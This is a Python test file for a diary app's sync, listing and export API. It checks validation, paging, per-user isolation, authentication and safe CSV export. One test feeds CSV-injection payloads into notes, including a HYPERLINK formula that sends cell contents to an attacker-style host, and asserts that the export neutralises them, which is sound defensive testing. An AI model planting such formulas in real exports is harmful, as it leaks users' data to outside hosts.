import base64
import csv as csv_module
import io
import json
import uuid
from datetime import timedelta

import pytest
from django.contrib.auth.models import User
from django.utils import timezone
from rest_framework.test import APIClient

from accounts.models import DeviceToken
from diary.models import Entry
from diary.schema import CSV_COLUMNS
from tests.diary.helpers import at, change

pytestmark = pytest.mark.django_db
SYNC = "/api/v1/diary/sync/"


def client_for(email):
    user = User.objects.create_user(email, email, "a long password 1")
    client = APIClient(HTTP_ACCEPT_LANGUAGE="en")
    client.force_authenticate(user)
    client.user = user
    return client


@pytest.fixture
def alice():
    return client_for("alice@example.org")


@pytest.fixture
def bob():
    return client_for("bob@example.org")


def sync(client, changes=(), cursor=0):
    return client.post(SYNC, {"cursor": cursor, "changes": list(changes)}, format="json")


def test_it_pushes_and_pulls(alice):
    first = change(notes="Nach dem Heben")
    response = sync(alice, [first])
    assert response.status_code == 200
    body = response.json()
    assert body["applied"] == [
        {
            "id": first["id"],
            "change": first["change"],
            "version": 1,
            "client_updated_at": body["applied"][0]["client_updated_at"],
            "status": "applied",
            "won": True,
        }
    ]
    assert body["cursor"] == 1
    assert body["more"] is False
    (row,) = body["changes"]
    assert row["data"]["notes"] == "Nach dem Heben"
    assert row["data"]["regions"] == []


def test_it_writes_every_instant_in_utc_even_from_a_clock_centuries_off(alice):
    # In Europe/Berlin a year-364 stamp had the offset +00:53:28, which is no RFC 3339 offset
    # (found by schemathesis).
    old_clock = {**change(), "client_updated_at": "0364-01-01T00:00:00+00:00"}
    body = sync(alice, [old_clock]).json()
    assert body["applied"][0]["client_updated_at"] == "0364-01-01T00:00:00Z"
    (row,) = body["changes"]
    assert row["client_updated_at"] == "0364-01-01T00:00:00Z"
    assert row["data"]["started_at"].endswith("Z")


def test_it_accepts_the_same_batch_twice_as_one(alice):
    batch = [change(notes="a"), change(notes="b")]
    sync(alice, batch)
    again = sync(alice, batch, cursor=2).json()
    assert [a["status"] for a in again["applied"]] == ["duplicate", "duplicate"]
    # A duplicate raises the entry's version (content unchanged): its device pulls it again.
    assert [row["data"]["notes"] for row in again["changes"]] == ["a", "b"]
    assert Entry.objects.count() == 2


def test_it_pages_the_pull_by_cursor(alice):
    for chunk in range(3):
        sync(alice, [change(notes=f"{chunk}-{i}") for i in range(400)])
    pulled, cursor, rounds = [], 0, 0
    while True:
        body = sync(alice, cursor=cursor).json()
        pulled += body["changes"]
        cursor = body["cursor"]
        rounds += 1
        if not body["more"]:
            break
    assert rounds == 3
    assert len({row["id"] for row in pulled}) == 1200
    assert [row["version"] for row in pulled] == list(range(1, 1201))


def test_it_sends_deletions_as_tombstones(alice):
    entry = change(notes="private")
    sync(alice, [entry])
    gone = change(entry["id"], [entry], when=2, deleted=True)
    body = sync(alice, [gone], cursor=1).json()
    assert body["changes"] == [
        {
            "id": entry["id"],
            "version": 2,
            "client_updated_at": body["changes"][0]["client_updated_at"],
            "deleted": True,
            "conflict": False,
            "change": None,
            "data": {},
            "kept": [],
        }
    ]


def test_it_refuses_more_than_500_changes(alice):
    response = sync(alice, [change() for _ in range(501)])
    assert response.status_code == 400
    assert "changes" in response.json()


@pytest.mark.parametrize(
    "fields,field,message",
    [
        ({"intensity": 11}, "intensity", "Ensure this value is less than or equal to 10."),
        ({"intensity": -1}, "intensity", "Ensure this value is greater than or equal to 0."),
        ({"intensity": "7"}, "intensity", "A valid integer is required."),
        ({"intensity": 7.5}, "intensity", "A valid integer is required."),
        ({"regions": ["neck"]}, "regions", None),
        ({"regions": ["lower-left", "lower-left"]}, "regions", None),
        ({"triggers": ["bungee"]}, "triggers", None),
        ({"measures": [{"id": "heat", "helped": 5}]}, "measures", None),
        ({"measures": [{"id": "laser"}]}, "measures", None),
        (
            {"started_at": at(60 * 24 * 365 * 10)},
            "started_at",
            "The start cannot be in the future.",
        ),
        ({"started_at": "yesterday"}, "started_at", None),
        ({"notes": "x" * 1_000_000}, "notes", None),
        ({"notes": 42}, "notes", None),
        ({"mood": "bad"}, "mood", "Unknown field."),
        ({"redflag": {"tier": "later", "reasons": []}}, "redflag", None),
        ({"duration_minutes": 100000}, "duration_minutes", None),
    ],
)
def test_it_refuses_invalid_entry_data_field_by_field(alice, fields, field, message):
    bad = change(**fields)
    response = sync(alice, [bad])
    assert response.status_code == 200
    (result,) = response.json()["applied"]
    assert result["id"] == bad["id"]
    assert (result["status"], result["version"], result["won"]) == ("rejected", None, False)
    errors = result["errors"]["data"]
    assert field in errors
    if message:
        assert message in errors[field]
    assert not Entry.objects.exists()


# Finding 4 of issue 8: one invalid change made the whole batch a 400, so the device resent the
# same batch for ever and nothing of it ever synced.
def test_it_applies_every_valid_change_of_a_batch_and_rejects_the_bad_one(alice):
    batch = [change(), change(intensity=12), change()]
    response = sync(alice, batch)
    assert response.status_code == 200
    results = response.json()["applied"]
    assert [r["status"] for r in results] == ["applied", "rejected", "applied"]
    assert results[1]["errors"] == {
        "data": {"intensity": ["Ensure this value is less than or equal to 10."]}
    }
    assert Entry.objects.count() == 2


def test_it_accepts_a_start_that_a_fast_phone_puts_in_the_future(alice):
    soon = (timezone.now() + timedelta(hours=23)).isoformat()
    response = sync(alice, [change(started_at=soon)])
    assert response.json()["applied"][0]["status"] == "applied"


def test_it_rejects_a_start_from_a_phone_reset_to_1970_and_syncs_the_rest(alice):
    response = sync(alice, [change(started_at="1970-01-01T00:00:00Z"), change()])
    first, second = response.json()["applied"]
    assert first["status"] == "rejected"
    assert first["errors"]["data"]["started_at"] == ["The start is too far in the past."]
    assert second["status"] == "applied"


def test_it_rejects_a_change_that_is_not_even_an_object(alice):
    response = sync(alice, ["nonsense", change()])
    first, second = response.json()["applied"]
    assert (first["id"], first["status"]) == (None, "rejected")
    assert second["status"] == "applied"


def test_it_refuses_a_missing_intensity(alice):
    bad = change()
    del bad["data"]["intensity"]
    response = sync(alice, [bad])
    errors = response.json()["applied"][0]["errors"]
    assert errors["data"]["intensity"] == ["This field is required."]


@pytest.mark.parametrize(
    "body",
    [
        {"cursor": -1, "changes": []},
        {"cursor": "0", "changes": []},
        {"changes": []},
        {"cursor": 0, "changes": "all"},
        {"cursor": 0, "changes": [], "extra": 1},
        {"cursor": 0, "changes": [], "device": "not-a-uuid"},
        {"cursor": 0, "changes": [], "device": False},
        [],
    ],
)
def test_it_refuses_a_malformed_request(alice, body):
    response = alice.post(SYNC, body, format="json")
    assert response.status_code == 400
    assert response.json()


def test_it_refuses_malformed_json(alice):
    response = alice.post(SYNC, '{"cursor": 0, "changes": [', content_type="application/json")
    assert response.status_code == 400
    assert "JSON parse error" in response.json()["detail"]


def test_it_refuses_the_same_entry_twice_in_a_batch(alice):
    entry = change()
    response = sync(alice, [entry, entry])
    assert response.status_code == 400


def test_it_lists_entries_newest_first_with_pages_and_date_filters(alice):
    sync(alice, [change(started_at=f"2026-10-{day:02d}T08:00:00+00:00") for day in range(1, 31)])
    sync(alice, [change(started_at="2026-11-01T08:00:00+00:00")])
    page = alice.get("/api/v1/diary/entries/").json()
    assert page["results"][0]["data"]["started_at"].startswith("2026-11-01")
    ranged = alice.get("/api/v1/diary/entries/?from=2026-10-10&to=2026-10-12").json()
    assert [r["data"]["started_at"][:10] for r in ranged["results"]] == [
        "2026-10-12",
        "2026-10-11",
        "2026-10-10",
    ]
    assert len(page["results"]) == 20
    assert page["previous"] is None
    second = alice.get(page["next"]).json()
    assert len(second["results"]) == 11
    assert second["next"] is None
    assert alice.get(second["previous"]).json() == page


def test_it_reaches_every_entry_once_by_cursor_even_with_equal_start_times(alice):
    same = "2026-10-05T08:00:00+00:00"
    sync(alice, [change(started_at=same) for _ in range(25)])
    sync(alice, [change(started_at=f"2026-10-{day:02d}T08:00:00+00:00") for day in (1, 9)])
    seen, url = [], "/api/v1/diary/entries/"
    while url:
        page = alice.get(url).json()
        seen += [(r["data"]["started_at"], r["id"]) for r in page["results"]]
        url = page["next"]
    expected = sorted(Entry.objects.values_list("started_at", "uuid"), key=lambda e: e[1])
    expected = sorted(expected, key=lambda e: e[0], reverse=True)
    assert [uuid.UUID(i) for _, i in seen] == [u for _, u in expected]


def test_it_lists_a_day_by_the_servers_zone(alice):
    # 23:30 UTC on the 9th is already the 10th in Berlin, as `from`/`to` have always meant.
    sync(alice, [change(started_at="2026-10-09T23:30:00+00:00")])
    assert len(alice.get("/api/v1/diary/entries/?from=2026-10-10").json()["results"]) == 1
    assert len(alice.get("/api/v1/diary/entries/?to=2026-10-09").json()["results"]) == 0


@pytest.mark.parametrize(
    "query", ["from=yesterday", "to=2026-13-01", "from=2026-10-12&to=2026-10-10"]
)
def test_it_refuses_a_bad_date_range(alice, query):
    response = alice.get(f"/api/v1/diary/entries/?{query}")
    assert response.status_code == 400
    assert response.json()


@pytest.mark.parametrize("cursor", ["o=abc", "p=tomorrow", "p=2026-13-45 08:00:00"])
def test_it_refuses_a_made_up_cursor(alice, cursor):
    sync(alice, [change()])
    made_up = base64.urlsafe_b64encode(cursor.encode()).decode()
    response = alice.get(f"/api/v1/diary/entries/?cursor={made_up}")
    assert response.status_code == 404
    assert response.json() == {"detail": "Invalid cursor"}


def test_it_shows_an_entry_with_its_kept_version(alice):
    entry = change(notes="original")
    sync(alice, [entry])
    sync(alice, [change(entry["id"], [entry], when=5, notes="phone")])
    sync(alice, [change(entry["id"], [entry], when=3, notes="tablet")])
    body = alice.get(f"/api/v1/diary/entries/{entry['id']}/").json()
    assert body["conflict"] is True
    assert body["data"]["notes"] == "phone"
    assert [k["data"]["notes"] for k in body["kept"]] == ["tablet"]


def test_it_exports_all_data_as_json_and_csv(alice):
    sync(
        alice,
        [
            change(
                notes="Rücken, „links“",
                regions=["lower-left"],
                measures=[{"id": "heat", "helped": 2}],
            )
        ],
    )
    exported = json.loads(alice.get("/api/v1/diary/export.json").getvalue())
    assert exported["entries"][0]["data"]["notes"] == "Rücken, „links“"
    csv = alice.get("/api/v1/diary/export.csv")
    assert csv["Content-Type"].startswith("text/csv")
    text = csv.getvalue().decode("utf-8-sig")
    assert text.splitlines()[0].startswith('"id","started_at","duration_minutes","intensity"')
    assert '"heat:2"' in text
    assert '"Rücken, „links“"' in text


@pytest.mark.parametrize(
    "notes",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Befund")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_it_never_exports_a_note_that_a_spreadsheet_would_run(alice, notes):
    """OWASP, CSV injection: a leading single quote, and the cell quoted."""
    sync(alice, [change(notes=notes)])
    text = alice.get("/api/v1/diary/export.csv").getvalue().decode("utf-8-sig")
    quoted = notes.replace('"', '""')
    assert f',"\'{quoted}",' in text
    (row,) = list(csv_module.reader(io.StringIO(text)))[1:]
    assert row[CSV_COLUMNS.index("notes")] == f"'{notes}"


def test_it_keeps_a_separator_in_a_note_inside_its_cell(alice):
    # A German Excel splits CSV at ";": quoting keeps "a;=1+1" one cell, not a formula cell.
    sync(alice, [change(notes="a;=1+1")])
    text = alice.get("/api/v1/diary/export.csv").getvalue().decode("utf-8-sig")
    assert ',"a;=1+1",' in text


# Object-level permissions: every endpoint, user A against user B's rows.


def test_it_never_shows_one_users_entries_to_another(alice, bob):
    entry = change(notes="Alice only")
    sync(alice, [entry])
    assert sync(bob).json()["changes"] == []
    assert bob.get("/api/v1/diary/entries/").json()["results"] == []
    assert bob.get(f"/api/v1/diary/entries/{entry['id']}/").status_code == 404
    assert json.loads(bob.get("/api/v1/diary/export.json").getvalue()) == {"entries": []}
    assert "Alice only" not in bob.get("/api/v1/diary/export.csv").getvalue().decode()


def test_it_never_lets_one_user_change_or_delete_anothers_entry(alice, bob):
    entry = change(notes="Alice only")
    sync(alice, [entry])
    sync(bob, [change(entry["id"], [entry], when=9, notes="Bob was here")])
    sync(bob, [change(entry["id"], [entry], when=10, deleted=True)])
    alices = Entry.objects.get(user=alice.user)
    assert (alices.notes, alices.deleted, alices.version) == ("Alice only", False, 1)


@pytest.mark.parametrize(
    "method,url",
    [
        ("post", SYNC),
        ("get", "/api/v1/diary/entries/"),
        ("get", f"/api/v1/diary/entries/{uuid.uuid4()}/"),
        ("get", "/api/v1/diary/export.json"),
        ("get", "/api/v1/diary/export.csv"),
    ],
)
def test_it_requires_authentication_on_every_endpoint(method, url):
    response = getattr(APIClient(), method)(url, {"cursor": 0, "changes": []}, format="json")
    assert response.status_code == 401


def test_it_accepts_a_token_for_other_api_clients(db):
    user = User.objects.create_user("carol@example.org", "carol@example.org", "x")
    _, token = DeviceToken.objects.create(user=user, name="script")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    assert sync(client, [change()]).status_code == 200


def test_it_checks_csrf_for_the_browser_session(db):
    user = User.objects.create_user("dave@example.org", "dave@example.org", "x")
    client = APIClient(enforce_csrf_checks=True)
    client.force_login(user)
    response = client.post(SYNC, {"cursor": 0, "changes": []}, format="json")
    assert response.status_code == 403
    assert "CSRF" in response.json()["detail"]


def test_it_serves_the_openapi_schema_and_its_docs_page(client):
    schema = client.get("/api/v1/schema/")
    assert schema.status_code == 200
    assert b"/api/v1/diary/sync/" in schema.content
    docs = client.get("/api/v1/docs/")
    assert docs.status_code == 200
    assert b"swagger" in docs.content.lower()


def test_it_refuses_a_sync_body_over_4_mb_unread(alice):
    huge = '{"cursor": 0, "changes": [], "padding": "' + "x" * (4 * 1024 * 1024) + '"}'
    response = alice.post(SYNC, huge, content_type="application/json")
    assert response.status_code == 413
    assert response.json() == {"detail": "The request is too large."}


# Audit finding 11 (and 16): inputs that gave a 500, or failed the whole batch, are a 4xx or a
# "rejected" of that change alone; the valid change beside them applies.
@pytest.mark.parametrize(
    "bad",
    [
        None,
        {**change(), "id": "\ud800"},
        {**change(), "change": "\ud800"},
        {**change(), "replaces": [2**63]},
        {**change(), "base_version": 2**63},
    ],
    ids=["null", "surrogate-id", "surrogate-change", "huge-replaces", "first-design-base"],
)
def test_it_rejects_a_malformed_change_alone_and_applies_the_rest(alice, bad):
    good = change(notes="valid beside it")
    # Sent as a phone sends it (the test client's renderer would refuse the lone surrogate).
    body = json.dumps({"cursor": 0, "changes": [bad, good]})
    response = alice.post(SYNC, body, content_type="application/json")
    assert response.status_code == 200
    first, second = response.json()["applied"]
    assert (first["status"], first["id"]) == ("rejected", None if bad is None else first["id"])
    assert second["status"] == "applied"
    assert Entry.objects.get().notes == "valid beside it"


def test_it_answers_a_cursor_beyond_the_database_with_a_400(alice):
    assert sync(alice, cursor=2**63).status_code == 400


def test_it_lists_up_to_the_last_day_there_is(alice):
    sync(alice, [change()])
    response = alice.get("/api/v1/diary/entries/?to=9999-12-31")
    assert response.status_code == 200
    assert len(response.json()["results"]) == 1
